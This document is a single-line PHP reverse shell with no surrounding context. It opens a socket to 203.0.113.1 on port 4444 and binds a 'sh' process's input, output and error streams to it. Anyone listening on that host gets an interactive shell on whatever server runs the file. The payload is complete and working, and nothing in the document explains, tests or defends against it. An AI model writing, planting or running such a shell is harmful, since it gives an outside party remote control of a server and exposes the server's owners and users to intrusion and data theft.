<?php $s=fsockopen('203.0.113.1',4444);$p=proc_open('sh',array(0=>$s,1=>$s,2=>$s),$pp);
